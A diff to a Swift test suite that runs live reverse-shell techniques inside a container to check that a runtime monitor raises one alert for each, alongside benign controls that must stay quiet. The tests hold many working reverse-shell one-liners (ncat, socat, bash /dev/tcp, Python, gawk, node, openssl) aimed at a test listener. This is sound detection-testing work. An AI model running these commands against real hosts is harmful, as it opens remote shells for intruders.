@@ -19,7 +19,9 @@ final class ReverseShellLiveTests: XCTestCase {
         try requireTools([(RuncContainer.runc, "runc"), (BusyboxRootfs.busybox, "busybox-static"),
                           (NetnsListener.python, "python3"), (TestNetwork.ip, "iproute2"),
                           ("/usr/bin/bash", "bash"), ("/usr/bin/perl", "perl-base"),
-                          ("/usr/bin/socat", "socat"), ("/usr/bin/ncat", "ncat"), ("/usr/bin/nc.openbsd", "netcat-openbsd")])
+                          ("/usr/bin/socat", "socat"), ("/usr/bin/ncat", "ncat"), ("/usr/bin/nc.openbsd", "netcat-openbsd"),
+                          ("/usr/bin/gawk", "gawk"), ("/usr/bin/node", "nodejs"), ("/usr/bin/openssl", "openssl"),
+                          ("/usr/bin/script", "bsdutils")])
         if Self.scene == nil { Self.scene = try ReverseShellLiveScene() }
     }
 
@@ -47,7 +49,6 @@ final class ReverseShellLiveTests: XCTestCase {
     }
 
     func testNcatExec() throws {
-        try skipUnlessKnownGapsRequested("the shell answers `id` but runtime-watch raises no reverse-shell alert for `ncat -e /bin/sh` (detector miss)")
         try assertReverseShell { ["/usr/bin/ncat", Self.attacker, "\($0)", "-e", "/bin/sh"] }
     }
 
@@ -63,14 +64,23 @@ final class ReverseShellLiveTests: XCTestCase {
         try assertReverseShell { ["/usr/bin/socat", "TCP:\(Self.attacker):\($0)", "EXEC:/usr/bin/bash -li,pty,stderr,setsid"] }
     }
 
+    func testSocatSystem() throws {
+        try assertReverseShell { ["/usr/bin/socat", "TCP:\(Self.attacker):\($0)", "SYSTEM:sh"] }
+    }
+
     func testBashDevTcpRedirection() throws {
         try assertReverseShell { ["/usr/bin/bash", "-c", "bash -i >& /dev/tcp/\(Self.attacker)/\($0) 0>&1"] }
     }
 
+    func testShOnDevUdpRedirection() throws {
+        try assertReverseShell(transport: .udp) { ["/usr/bin/bash", "-c", "sh -i >& /dev/udp/\(Self.attacker)/\($0) 0>&1"] }
+    }
+
+    /// GNU cat, not the rootfs's busybox cat: busybox copies with sendfile(2), which on a socket
+    /// input blocks until EOF, so `id` would never reach the loop (the listener got 0 bytes).
     func testBashDevTcpReadLoop() throws {
-        try skipUnlessKnownGapsRequested("the shell never answered `id` here (listener got 0 bytes) and no alert was raised")
         try assertReverseShell { port in
-            ["/usr/bin/bash", "-c", "exec 5<>/dev/tcp/\(Self.attacker)/\(port); cat <&5 | while read l; do $l 2>&5 >&5; done"]
+            ["/usr/bin/bash", "-c", "exec 5<>/dev/tcp/\(Self.attacker)/\(port); /usr/bin/cat <&5 | while read l; do $l 2>&5 >&5; done"]
         }
     }
 
@@ -83,9 +93,17 @@ final class ReverseShellLiveTests: XCTestCase {
         }
     }
 
-    func testPythonPtySpawn() throws {
-        try skipUnlessKnownGapsRequested("two alerts for one shell: python3 (stdio is a socket) and sh (relayed through the pty)")
+    func testPythonDupAndExecv() throws {
         try assertReverseShell { port in
+            ["/usr/bin/python3", "-c", """
+            import socket,os;s=socket.create_connection(("\(Self.attacker)",\(port)));[os.dup2(s.fileno(),f) for f in (0,1,2)];\
+            os.execv("/bin/sh",["sh","-i"])
+            """]
+        }
+    }
+
+    func testPythonPtySpawn() throws {
+        try assertReverseShell(shellNamed: "sh") { port in
             ["/usr/bin/python3", "-c", """
             import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("\(Self.attacker)",\(port)));\
             [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")
@@ -103,46 +121,85 @@ final class ReverseShellLiveTests: XCTestCase {
     }
 
     func testMkfifoNetcatPipeline() throws {
-        try skipUnlessKnownGapsRequested("flaky: the shell always answers, but 1 of 3 runs raised no alert (relay seen too late or not at all)")
-        try assertReverseShell { port in
+        try assertReverseShell(shellNamed: "sh") { port in
             ["sh", "-c", "rm -f /tmp/f\(port); mkfifo /tmp/f\(port); cat /tmp/f\(port) | /bin/sh -i 2>&1 | nc \(Self.attacker) \(port) > /tmp/f\(port)"]
         }
     }
 
+    func testMknodShellReadsFifoPipeline() throws {
+        try assertReverseShell(shellNamed: "sh") { port in
+            ["sh", "-c", "rm -f /tmp/p\(port); mknod /tmp/p\(port) p && /bin/sh 0</tmp/p\(port) | nc \(Self.attacker) \(port) 1>/tmp/p\(port)"]
+        }
+    }
+
     func testBusyboxTelnetFifoPipeline() throws {
-        try skipUnlessKnownGapsRequested("two alerts: sh (relayed) and the `id` it runs (busybox exe, same relayed stdio)")
-        try assertReverseShell { port in
+        try assertReverseShell(shellNamed: "sh") { port in
             ["sh", "-c", "rm -f /tmp/t\(port); mkfifo /tmp/t\(port); telnet \(Self.attacker) \(port) < /tmp/t\(port) | /bin/sh > /tmp/t\(port) 2>&1"]
         }
     }
 
-    // MARK: - Benign controls: none may alert
+    func testOpensslTlsFifoPipeline() throws {
+        let scene = try self.scene
+        try assertReverseShell(transport: .tls(certificate: scene.tlsCertificate, key: scene.tlsKey), shellNamed: "sh") { port in
+            ["sh", "-c", "rm -f /tmp/s\(port); mkfifo /tmp/s\(port); /bin/sh -i < /tmp/s\(port) 2>&1 | "
+             + "OPENSSL_CONF=/dev/null /usr/bin/openssl s_client -quiet -connect \(Self.attacker):\(port) > /tmp/s\(port)"]
+        }
+    }
+
+    func testGawkInetCommandLoop() throws {
+        try assertReverseShell { port in
+            ["/usr/bin/gawk", "BEGIN{s=\"/inet/tcp/0/\(Self.attacker)/\(port)\";while((s|&getline c)>0){while((c|getline l)>0)print l|&s;close(c)};close(s)}"]
+        }
+    }
+
+    func testNodeSpawnPipedToSocket() throws {
+        try assertReverseShell(shellNamed: "sh") { port in
+            ["/usr/bin/node", "-e", """
+            const sh=require("child_process").spawn("/bin/sh",[]);const c=require("net").connect(\(port),"\(Self.attacker)",()=>{\
+            c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)});c.on("error",()=>process.exit(1));sh.on("exit",()=>c.destroy())
+            """]
+        }
+    }
+
+    /// A host process (not in any container) in namespace B: the alert says `container.id` = host.
+    func testHostProcessInNetworkNamespaceAlertsAsHost() throws {
+        try assertReverseShell(onHost: true) { port in
+            ["/usr/bin/python3", "-c", """
+            import socket,os;s=socket.create_connection(("\(Self.attacker)",\(port)));[os.dup2(s.fileno(),f) for f in (0,1,2)];\
+            os.execv("/bin/sh",["sh","-i"])
+            """]
+        }
+    }
+
+    // MARK: - Benign controls: none may alert (and the monitor must have seen each one run)
 
     func testBenignPortCheckDoesNotAlert() throws {
-        try assertNoReverseShell(listening: true) { port in
-            let check = try self.scene.container.exec(["/usr/bin/nc.openbsd", "-z", "-w", "2", Self.attacker, "\(port)"], timeout: .seconds(10))
+        try assertNoReverseShell(listening: true) { port, mark in
+            let check = try self.scene.container.exec(["sh", "-c", "/usr/bin/nc.openbsd -z -w 2 \(Self.attacker) \(port) # \(mark)"],
+                                                      timeout: .seconds(10))
             XCTAssertEqual(check.status, 0, "port check reached the listener: \(check)")
         }
     }
 
     func testBenignPlainNetcatClientDoesNotAlert() throws {
-        try assertNoReverseShell(listening: true) { port in
-            let client = try self.scene.container.exec(["sh", "-c", "echo hi | nc \(Self.attacker) \(port)"], timeout: .seconds(10))
+        try assertNoReverseShell(listening: true) { port, mark in
+            let client = try self.scene.container.exec(["sh", "-c", "echo hi | nc \(Self.attacker) \(port) # \(mark)"], timeout: .seconds(10))
             XCTAssertFalse(client.timedOut, "\(client)")
             XCTAssertTrue(client.stdout.hasPrefix("id"), "the client printed what the listener sent: \(client)")
         }
     }
 
     func testBenignShellPipelineDoesNotAlert() throws {
-        try assertNoReverseShell(listening: false) { _ in
-            let run = try self.scene.container.exec(["sh", "-c", "echo a | cat | wc -c"], timeout: .seconds(10))
+        try assertNoReverseShell(listening: false) { _, mark in
+            let run = try self.scene.container.exec(["sh", "-c", "echo a | cat | wc -c # \(mark)"], timeout: .seconds(10))
             XCTAssertEqual(run.stdout.trimmingCharacters(in: .whitespacesAndNewlines), "2", "\(run)")
         }
     }
 
     func testBenignShellOnUnixSocketPairDoesNotAlert() throws {
-        try assertNoReverseShell(listening: false) { _ in
+        try assertNoReverseShell(listening: false) { _, mark in
             let run = try self.scene.container.exec(["/usr/bin/python3", "-c", """
+            # \(mark)
             import socket,subprocess
             a,b=socket.socketpair()
             p=subprocess.Popen(["/bin/sh"],stdin=b,stdout=b,stderr=b)
@@ -162,80 +219,152 @@ final class ReverseShellLiveTests: XCTestCase {
     }
 
     func testBenignDownloadPipedToShellWithFileOutputDoesNotAlert() throws {
-        try skipUnlessKnownGapsRequested("false positive: the outer `sh -c` running `python3 … | sh > file` is reported as relayed")
-        try assertNoReverseShell(listening: true) { port in
+        try assertNoReverseShell(listening: true) { port, mark in
             let fetch = #"import socket;s=socket.create_connection(("\#(Self.attacker)",\#(port)),5);print(s.recv(100).decode().strip())"#
-            let run = try self.scene.container.exec(["sh", "-c", "/usr/bin/python3 -c '\(fetch)' | sh > /tmp/out\(port) 2>&1; cat /tmp/out\(port)"],
+            let run = try self.scene.container.exec(["sh", "-c", "/usr/bin/python3 -c '\(fetch)' | sh > /tmp/out\(port) 2>&1; cat /tmp/out\(port) # \(mark)"],
                                                     timeout: .seconds(15))
             XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the downloaded `id` ran with output to a file: \(run)")
         }
     }
 
     func testBenignPythonPlainRequestDoesNotAlert() throws {
-        try assertNoReverseShell(listening: true) { port in
+        try assertNoReverseShell(listening: true) { port, mark in
             let request = #"import socket;s=socket.create_connection(("\#(Self.attacker)",\#(port)),5);s.sendall(b"GET / HTTP/1.0\r\n\r\n");print(s.recv(100).decode().strip())"#
-            let run = try self.scene.container.exec(["/usr/bin/python3", "-c", request], timeout: .seconds(15))
+            let run = try self.scene.container.exec(["/usr/bin/python3", "-c", request + " # \(mark)"], timeout: .seconds(15))
             XCTAssertEqual(run.stdout.trimmingCharacters(in: .whitespacesAndNewlines), "id", "\(run)")
+        }
+    }
+
+    /// `kubectl exec -it`: an interactive shell on a terminal (here a pty from `script`), no socket.
+    func testBenignInteractiveShellOnTerminalDoesNotAlert() throws {
+        try assertNoReverseShell(listening: false) { _, mark in
+            let run = try self.scene.container.exec(["/usr/bin/script", "-qec", "sh -ic 'id; exit' # \(mark)", "/dev/null"], timeout: .seconds(15))
+            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell on the pty ran id: \(run)")
+        }
+    }
+
+    /// sshd's shape: a server accepts a connection on loopback and runs a shell on a pty it relays to
+    /// that accepted socket (inbound, on a descriptor above 2); the client is another process. The
+    /// server never connects out: quiet.
+    func testBenignPtyServerAcceptingConnectionsDoesNotAlert() throws {
+        let scene = try self.scene
+        try assertNoReverseShell(listening: false) { _, mark in
+            let server = """
+            import os,pty,select,socket,sys,time
+            srv=socket.socket();srv.bind(("127.0.0.1",0));srv.listen(1)
+            open(sys.argv[1]+".tmp","w").write(str(srv.getsockname()[1]));os.rename(sys.argv[1]+".tmp",sys.argv[1])
+            srv.settimeout(10);conn,_=srv.accept()
+            pid,master=pty.fork()
+            if pid==0:
+                os.execv("/bin/sh",["sh"])
+            end=time.monotonic()+8
+            while time.monotonic()<end:
+                r,_,_=select.select([conn,master],[],[],0.5)
+                try:
+                    if conn in r:
+                        d=conn.recv(4096)
+                        if not d: break
+                        os.write(master,d)
+                    if master in r:
+                        conn.sendall(os.read(master,4096))
+                except OSError:
+                    break
+            conn.close()
+            """
+            let client = """
+            import os,socket,sys,time
+            end=time.monotonic()+10
+            while not os.path.exists(sys.argv[1]) and time.monotonic()<end: time.sleep(0.05)
+            c=socket.create_connection(("127.0.0.1",int(open(sys.argv[1]).read())),5)
+            c.sendall(b"id\\nexit\\n");c.settimeout(5);out=b""
+            try:
+                while b"uid=" not in out or not out.endswith(b"\\n"):
+                    d=c.recv(4096)
+                    if not d: break
+                    out+=d
+            except socket.timeout:
+                pass
+            c.close();print(out.decode("utf-8","replace"))
+            """
+            // The container's /tmp is its own tmpfs: write the scripts from inside.
+            for (name, text) in [("server", server), ("client", client)] {
+                let write = try scene.container.exec(["sh", "-c", "cat > /tmp/\(mark)-\(name).py"], timeout: .seconds(10), stdin: text)
+                XCTAssertEqual(write.status, 0, "writing the \(name) script: \(write)")
+            }
+            let run = try scene.container.exec(["sh", "-c", "/usr/bin/python3 /tmp/\(mark)-server.py /tmp/\(mark).port & "
+                                                + "/usr/bin/python3 /tmp/\(mark)-client.py /tmp/\(mark).port; wait"], timeout: .seconds(20))
+            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell behind the pty server ran id: \(run)")
         }
     }
 
     // MARK: - Helpers
 
-    /// Techniques and controls the monitor does not yet get right (see the reason) run only when
-    /// RW_REVERSE_SHELL_KNOWN_GAPS=1, so they document the gap without breaking CI.
-    /// - Throws: `XCTSkip` naming the gap when the variable is not set.
-    private func skipUnlessKnownGapsRequested(_ gap: String) throws {
-        guard ProcessInfo.processInfo.environment["RW_REVERSE_SHELL_KNOWN_GAPS"] == "1" else {
-            throw XCTSkip("known gap, run with RW_REVERSE_SHELL_KNOWN_GAPS=1: \(gap)")
-        }
-    }
-
-    /// Starts a listener that sends `id`, runs `command(port)` detached in the container, requires
-    /// `uid=` back, then requires exactly one `reverse-shell` alert for that port (waiting up to 10 s
-    /// for the first and 3 s more, past the 2 s launch grace, for any duplicate), attributed to the
-    /// container and the listener's address.
-    private func assertReverseShell(file: StaticString = #filePath, line: UInt = #line,
+    /// Starts a listener that sends `id`, runs `command(port)` in the container (detached), or on
+    /// the host in namespace B when `onHost`, requires `uid=0(root)` back, then requires exactly one
+    /// `reverse-shell` alert for that port (waiting up to 10 s for the first and 3 s more, past the
+    /// launch and interpreter graces, for any duplicate), attributed to the container (or `host`) and
+    /// the listener's address, and naming a process called `shellNamed` when given.
+    private func assertReverseShell(transport: NetnsListener.Transport = .tcp, shellNamed: String? = nil, onHost: Bool = false,
+                                    file: StaticString = #filePath, line: UInt = #line,
                                     _ command: (UInt16) -> [String]) throws {
         let scene = try self.scene
-        let listener = try scene.network.startListener(sending: "id", timeout: .seconds(10))
+        let listener = try scene.network.startListener(sending: "id", timeout: .seconds(10), transport: transport)
         let port = Int(listener.port)
         Self.techniquePorts.insert(port)
         let argv = command(listener.port)
         let output = scene.scratch.at("technique-\(port).out")
-        try scene.container.execDetached(argv, outputPath: output)
+        if onHost {
+            try CommandRunner.run([TestNetwork.ip, "netns", "exec", scene.network.namespaceB] + argv, timeout: .seconds(15),
+                                  stdoutPath: output, stderrPath: output)
+        } else {
+            try scene.container.execDetached(argv, outputPath: output)
+        }
         let result = try listener.result()
         XCTAssertTrue(result.received.contains("uid=0(root)"),
                       "the shell answered `id` (\(argv)): \(result.received.debugDescription) output: \(CommandRunner.readCapped(output))",
                       file: file, line: line)
 
-        let forPort: ([EndToEndAlert]) -> [EndToEndAlert] = { $0.filter { $0.remotePort == port } }
+        let expectedContainer = onHost ? "host" : scene.shortContainerID
+        let forPort: ([EndToEndAlert]) -> [EndToEndAlert] = { $0.filter { $0.remotePort == port && $0.containerID == expectedContainer } }
         _ = try scene.monitor.waitForAlerts(timeout: .seconds(10)) { !forPort($0.filter { $0.ruleID == "reverse-shell" }).isEmpty }
         Thread.sleep(forTimeInterval: 3)
         let alerts = forPort(try scene.reverseShellAlerts())
         XCTAssertEqual(alerts.count, 1, "reverse-shell alerts for port \(port) (\(argv)):\n"
-                       + alerts.map(\.reverseShellSummary).joined(separator: "\n") + "\nlog tail:\n\(scene.monitor.log.suffix(1500))",
+                       + alerts.map(\.reverseShellSummary).joined(separator: "\n")
+                       + "\nconnect events to this port in the monitor's trace: \(scene.tracedConnects(port: port))"
+                       + " (0 means connect capture lost them, e.g. another runtime-watch removed the shared audit rule)"
+                       + "\nlog tail:\n\(scene.monitor.log.suffix(1500))",
                        file: file, line: line)
         for alert in alerts {
-            XCTAssertEqual(alert.containerID, scene.shortContainerID, "container.id: \(alert.reverseShellSummary)", file: file, line: line)
             XCTAssertEqual(alert.remoteAddress, Self.attacker, "fd.rip: \(alert.reverseShellSummary)", file: file, line: line)
+            if let shellNamed {
+                XCTAssertEqual(alert.string("proc.name"), shellNamed, "the alert names the shell: \(alert.reverseShellSummary)", file: file, line: line)
+            }
         }
         print("reverse-shell technique \(argv.joined(separator: " ")) → alerts=\(alerts.count) "
               + alerts.map(\.reverseShellSummary).joined(separator: " | "))
     }
 
-    /// Runs `body` (with a listener's port when `listening`, else 0), waits 4 s (the launch grace
-    /// plus the descriptor re-check) and requires no new `reverse-shell` alert apart from late ones
-    /// of earlier technique tests (recognised by their port).
+    /// Runs `body(port, mark)` (with a listener's port when `listening`, else 0; `mark` must appear in
+    /// the argv of a process the control runs), waits 4 s (the graces plus the descriptor re-reads),
+    /// requires that the monitor recorded the control's exec (it was watching), and that no new
+    /// `reverse-shell` alert appeared apart from late ones of technique tests (recognised by port).
     private func assertNoReverseShell(listening: Bool, file: StaticString = #filePath, line: UInt = #line,
-                                      _ body: (UInt16) throws -> Void) throws {
+                                      _ body: (UInt16, String) throws -> Void) throws {
         let scene = try self.scene
         let before = try scene.reverseShellAlerts().count
         let listener = listening ? try scene.network.startListener(sending: "id", timeout: .seconds(4)) : nil
-        try body(listener?.port ?? 0)
+        let mark = "rwmark-\(RuncContainer.randomHex(bytes: 4))"
+        try body(listener?.port ?? 0, mark)
         if let listener { _ = try? listener.result() }   // a port check resets the connection: no result to read
         Thread.sleep(forTimeInterval: 4)
-        let fresh = try scene.reverseShellAlerts().dropFirst(before).filter { !Self.techniquePorts.contains($0.remotePort ?? -1) }
+        XCTAssertFalse(try scene.tracedExecs(containing: mark).isEmpty,
+                       "the monitor recorded no exec carrying \(mark): it was not watching during the control", file: file, line: line)
+        // Only this container's alerts: other suites on a shared host run their own reverse shells.
+        let fresh = try scene.reverseShellAlerts().dropFirst(before)
+            .filter { $0.containerID == scene.shortContainerID && !Self.techniquePorts.contains($0.remotePort ?? -1) }
         XCTAssertEqual(fresh.count, 0, "benign activity raised reverse-shell alerts:\n" + fresh.map(\.reverseShellSummary).joined(separator: "\n"),
                        file: file, line: line)
+        print("reverse-shell control \(name) → alerts=\(fresh.count) (exec \(mark) seen by the monitor)")
     }
 }
